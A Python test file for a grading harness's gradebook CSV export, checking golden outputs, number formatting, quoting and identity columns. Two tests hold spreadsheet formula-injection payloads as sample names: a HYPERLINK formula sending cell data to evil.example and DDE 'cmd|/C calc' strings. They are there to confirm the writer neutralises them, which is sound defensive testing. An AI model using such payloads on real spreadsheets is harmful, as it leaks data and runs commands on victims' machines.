"""The gradebook CSV: the bundled examples graded for real against golden files, and hand-built
reports for the edges (ungraded items, error rows, formula injection, float noise, odd names)."""

from __future__ import annotations

import csv
import functools
import io
import json
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from harness.kinds.notebook.run import unavailable
from harness.records.identity import Student
from harness.records.results import (
    CaseResult,
    Flag,
    ItemResult,
    Report,
    SubmissionResult,
    from_json,
)
from harness.records.verdicts import Verdict
from harness.writers.gradebook import columns, number, rows, safe_text, to_csv, write_csv
from tests.class_report import class_report
from tests.conftest import examples_report, without_again
from tests.test_examples import GOLDEN, compare_golden

ASSIGNMENTS = ("sudoku-functions", "board-solver", "stdin-program", "sudoku-script")
NO_NOTEBOOKS = unavailable(Path(sys.executable))
# Graded for real here (board-solver and stdin-program take minutes: their golden JSON reports,
# which their own tests check against real grading, stand in for them below).
GRADED = (
    "sudoku-functions",
    pytest.param(
        "sudoku-script", marks=pytest.mark.skipif(bool(NO_NOTEBOOKS), reason=NO_NOTEBOOKS or "")
    ),
)


@functools.cache
def graded(assignment: str) -> Report:
    """The bundled examples of `assignment`, graded by real worker processes, without what
    differs from run to run (see `steady`). Cached: the JUnit tests read it too."""
    return steady(examples_report(assignment))


def golden_report(assignment: str) -> Report:
    """The golden JSON report of `assignment` (its seconds are already 0)."""
    return from_json(json.loads((GOLDEN / f"{assignment}.json").read_text()))


def steady(report: Report) -> Report:
    """`report` with every case's seconds set to 0, no case stopped on the wall clock with CPU
    to spare, and without the note that a submission was graded again alone (all three happen
    when the machine is busy)."""
    return replace(report, submissions=tuple(_steady(s) for s in report.submissions))


def _steady(result: SubmissionResult) -> SubmissionResult:
    items = tuple(
        replace(item, cases=tuple(replace(c, seconds=0.0, wall_only=False) for c in item.cases))
        for item in result.items
    )
    return replace(result, items=items, note=without_again(result.note), graded_again=False)


def golden_text(report: Report) -> str:
    """The CSV as its golden file keeps it: with LF line ends (read_text would turn CRLF into LF
    anyway, and a diff reads better without them)."""
    return to_csv(report).replace("\r\n", "\n")


def parsed(report: Report) -> list[list[str]]:
    return list(csv.reader(io.StringIO(to_csv(report), newline="")))


def by_name(report: Report) -> dict[str, dict[str, str]]:
    """The CSV read back: each submission's row by column."""
    return {row["submission"]: row for row in csv.DictReader(io.StringIO(to_csv(report)))}


def item(name: str, marks: float, max_marks: float, graded: bool = True) -> ItemResult:
    reason = "" if graded else "the submission has no notebook"
    shown = (f"not graded: {reason}",) if reason else ()
    return ItemResult(name, marks, max_marks, (), shown, graded=graded, ungraded_reason=reason)


def submission(name: str, *items: ItemResult) -> SubmissionResult:
    marks = sum(i.marks for i in items if i.graded)
    max_marks = sum(i.max_marks for i in items if i.graded)
    return SubmissionResult(name, marks, max_marks, "graded", "", items)


def report(*submissions: SubmissionResult) -> Report:
    return Report("demo", 30.0, submissions)


@pytest.mark.parametrize("assignment", GRADED)
def test_the_graded_examples_match_the_golden_gradebook(
    assignment: str, request: pytest.FixtureRequest
) -> None:
    compare_golden(f"{assignment}.csv", golden_text(graded(assignment)), request)


@pytest.mark.parametrize("assignment", ASSIGNMENTS)
def test_the_golden_json_reports_give_the_golden_gradebooks(
    assignment: str, request: pytest.FixtureRequest
) -> None:
    """The gradebook needs nothing the JSON report lacks: it can be made again from report.json."""
    compare_golden(f"{assignment}.csv", golden_text(golden_report(assignment)), request)


def test_a_row_per_submission_a_column_per_item_in_the_assignments_order() -> None:
    table = parsed(golden_report("sudoku-functions"))
    assert table[0][:4] == ["submission", "get_block_num", "get_position_inside_block", "get_block"]
    assert table[0][12:] == [
        "sudoku_solver",
        "total",
        "max",
        "percent",
        "grading_status",
        "note",
        "flags",
    ]
    rows_by = by_name(golden_report("sudoku-functions"))
    assert len(rows_by) == 10
    scan = rows_by["column_major_scan"]
    assert (scan["find_first_unassigned_position"], scan["total"], scan["max"]) == (
        "4.62",
        "114.62",
        "120",
    )
    assert (scan["percent"], scan["grading_status"], scan["note"]) == ("95.52", "graded", "")
    assert rows_by["imports"]["flags"] == "dict x1, import x2"
    broken = rows_by["syntax_error"]
    assert (broken["total"], broken["percent"], broken["grading_status"]) == ("0", "0", "error")
    assert broken["note"] == "syntax error at line 97: expected ':'"


def test_an_item_not_graded_is_an_empty_cell_left_out_of_max() -> None:
    table = by_name(golden_report("sudoku-script"))
    row = table["prints-in-load"]
    assert (row["notebook"], row["total"], row["max"], row["percent"]) == ("", "100", "100", "100")
    correct = table["correct"]
    assert (correct["notebook"], correct["max"]) == ("20", "120")


def test_rows_read_as_the_cells_say() -> None:
    result = submission("ann", item("a", 7.5, 10), item("b", 0.0, 20, graded=False))
    assert columns(report(result)) == [
        "submission",
        "a",
        "b",
        "total",
        "max",
        "percent",
        "grading_status",
        "note",
        "flags",
    ]
    assert rows(report(result)) == [
        {
            "submission": "ann",
            "a": "7.5",
            "b": "",
            "total": "7.5",
            "max": "10",
            "percent": "75",
            "grading_status": "graded",
            "note": "",
            "flags": "",
        }
    ]


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (10.0000001, "10"),
        (7.5, "7.5"),
        (0.1 + 0.2, "0.3"),
        (-0.0, "0"),
        (114.62, "114.62"),
        (2 / 3, "0.67"),
        (1e6, "1000000"),
        (0.004, "0"),
    ],
)
def test_marks_print_without_float_noise(value: float, text: str) -> None:
    assert number(value) == text


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
    ],
)
def test_a_name_a_spreadsheet_would_run_is_neutralised(name: str) -> None:
    result = replace(submission(name, item("a", 1, 1)), note=name)
    [_, row] = parsed(report(result))
    assert row[0] == row[-2] == "'" + name
    assert row[1:5] == ["1", "1", "1", "100"]  # numbers are ours, and stay numbers


@pytest.mark.parametrize(
    "name",
    [
        "has,comma",
        'has "quotes"',
        "has\nnewline",
        "has\r\nboth",
        "lone\rreturn",
        "ünïcödé 名前",
        " =spaced",
    ],
)
def test_names_round_trip_through_csv_quoting(name: str) -> None:
    [_, row] = parsed(report(submission(name, item("a", 1, 1))))
    assert row[0] == name


def test_control_characters_and_undecodable_names_are_replaced(tmp_path: Path) -> None:
    name = "bad\x00name\x1b[31m\udcff"
    result = replace(submission(name, item("a", 1, 1)), note="output: \x07\x00")
    path = tmp_path / "grades.csv"
    write_csv(report(result), path)
    [_, row] = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    assert row[0] == "bad\ufffdname\ufffd[31m\ufffd"
    assert row[-2] == "output: \ufffd\ufffd"
    assert safe_text("tab\tand\nnewline inside") == "tab\tand\nnewline inside"


def test_an_error_row_and_a_row_with_nothing_graded() -> None:
    load = (CaseResult("load", Verdict.CE, "syntax error at line 3", 0.0),)
    error = SubmissionResult(
        "broken", 0.0, 10.0, "error", "syntax error at line 3", (ItemResult("a", 0.0, 10.0, load),)
    )
    nothing = submission("empty", item("a", 0.0, 10, graded=False))
    table = parsed(report(error, nothing))
    assert table[1] == ["broken", "0", "0", "10", "0", "error", "syntax error at line 3", ""]
    assert table[2] == ["empty", "", "0", "0", "", "graded", "", ""]


def test_flags_are_counted_by_rule() -> None:
    flags = (
        Flag("print", "a", 3, "print"),
        Flag("import", None, 1, "import os"),
        Flag("print", "a", 9, "print"),
    )
    result = replace(submission("ann", item("a", 1, 1)), flags=flags)
    assert rows(report(result))[0]["flags"] == "import x1, print x2"


def test_an_item_named_like_a_fixed_column_gets_its_own() -> None:
    result = submission("ann", item("total", 4, 5), item("note", 1, 5))
    header = columns(report(result))
    assert header[:3] == ["submission", "total (item)", "note (item)"]
    assert rows(report(result))[0]["total (item)"] == "4"
    assert rows(report(result))[0]["total"] == "5"


def test_an_empty_report_is_a_header() -> None:
    assert (
        to_csv(Report("demo", 0.0, ()))
        == "submission,total,max,percent,grading_status,note,flags\r\n"
    )


def test_written_atomically_as_utf8(tmp_path: Path) -> None:
    path = tmp_path / "out" / "grades.csv"
    data = report(submission("zoë", item("a", 1, 2)))
    write_csv(data, path)
    assert path.read_bytes() == to_csv(data).encode("utf-8")
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert path.read_bytes().count(b"\r\n") == 2
    assert [p.name for p in path.parent.iterdir()] == ["grades.csv"]


def test_identity_adjustments_and_absent_students_add_columns_and_rows() -> None:
    table = parsed(class_report())
    assert table[0] == [
        "submission",
        *("name", "lms_id", "email", "login", "sis_id", "section"),
        "check",
        "solve",
        "computed",
        "adjustments",
        *("total", "max", "percent", "grading_status", "note", "flags"),
    ]
    rows_by = {row[0]: row for row in table[1:]}
    jane, raj = rows_by["doejane"], rows_by["kumarraj"]
    assert jane[1:7] == ["Jane Doe", "123456", "jane@example.edu", "jdoe", "S1001", "Section 1"]
    assert jane[7:12] == [
        "10",
        "20",
        "30",
        "late penalty: 30 -> 24 (2 days late: 20% of 30 taken)",
        "24",
    ]
    assert raj[7:10] == ["5", "18", "15"]  # the item's cell and the total include the override
    assert raj[10].startswith("override on solve: 10 -> 18 (") and raj[11] == "23"
    assert rows_by["zoe"][9:12] == ["30", "", "30"]  # no adjustment: computed is the total
    absent = table[-1]
    assert absent[:7] == [
        "",
        "Bo Nguyen",
        "123459",
        "bo@example.edu",
        "bnguyen",
        "S1004",
        "Section 2",
    ]
    assert absent[7:14] == [""] * 7  # no marks at all, not zeros
    assert absent[14:] == ["absent", "on the roster, no submission", ""]


def test_only_the_identity_some_row_has_becomes_a_column() -> None:
    named = replace(submission("ann", item("email", 1, 1)), student=Student(name="Ann Lee"))
    assert columns(report(named))[:3] == ["submission", "name", "email"]  # no e-mail: no column
    with_email = replace(named, student=Student(name="Ann Lee", email="ann@example.edu"))
    header = columns(report(with_email))
    assert header[:4] == ["submission", "name", "email", "email (item)"]
    assert rows(report(with_email))[0]["email (item)"] == "1"


def test_identity_from_a_student_is_made_safe_for_spreadsheets() -> None:
    hostile = Student(name="=cmd|' /C calc'!A0", email="@evil", section="-1+1")
    [_, row] = parsed(report(replace(submission("ann", item("a", 1, 1)), student=hostile)))
    assert row[1:4] == ["'=cmd|' /C calc'!A0", "'@evil", "'-1+1"]
